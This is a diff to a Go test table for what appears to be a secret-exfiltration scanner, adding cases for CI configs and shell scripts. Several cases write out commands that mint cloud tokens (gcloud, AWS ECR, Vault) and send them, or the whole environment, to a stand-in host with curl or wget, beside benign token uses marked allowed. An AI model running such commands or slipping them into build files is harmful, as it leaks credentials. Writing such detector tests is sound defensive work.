@@ -467,6 +467,14 @@ var registry = []Rule{
 			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://x-dev.github.io/v", 6, false},
 			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://api.github.com/repos/x/y/releases", 0, true},
 			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
+			// A token a cloud CLI mints is a secret wherever it goes next:
+			// into a file or a variable, then sent; handed to its own
+			// registry's login it is its use.
+			{"cloudbuild.yaml", "steps:\n  - name: gcr.io/google.com/cloudsdktool/cloud-sdk\n    entrypoint: bash\n    args:\n      - -c\n      - |\n        gcloud auth application-default print-access-token > /workspace/t\n        curl -s --upload-file /workspace/t https://x.invalid/u", 8, false},
+			{"x.sh", "aws ecr get-login-password --region eu-west-1 > p.txt\ncurl -F f=@p.txt https://x.invalid/u", 2, false},
+			{"x.sh", "T=$(vault token create -ttl=1h -field=token)\nwget -q --post-data=\"t=$T\" https://x.invalid/u", 2, false},
+			{"x.sh", "aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin 1234.dkr.ecr.eu-west-1.amazonaws.com", 0, true},
+			{"x.sh", "T=$(az account get-access-token --query accessToken -o tsv)\ncurl -H \"Authorization: Bearer $T\" https://management.azure.com/subscriptions", 0, true},
 			{"x.sh", "env | xargs -I{} curl https://x.invalid/{}", 0, false},
 			// What a secret store prints is the secret: Vault, AWS, Google's
 			// and Azure's stores, Buildkite's secrets, a sops file decrypted;
